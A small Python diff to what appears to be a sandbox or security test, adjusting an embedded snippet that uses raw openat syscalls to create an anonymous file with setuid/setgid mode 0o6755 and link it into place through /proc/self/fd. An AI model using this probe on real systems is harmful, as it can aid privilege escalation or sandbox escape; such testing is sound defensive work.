@@ -45,7 +45,10 @@ for intel, arm, arguments in (
 ):
     call(intel, arm, *arguments)
 made = call(257, 56, at, b'.', 0o20200002, 0o6755)
-if made >= 0: os.link('/proc/self/fd/' + str(made), 'j', follow_symlinks=True)
+try:
+    os.link('/proc/self/fd/' + str(made), 'j', follow_symlinks=True)
+except OSError:
+    pass
 """
         + _LOOK,
     ),
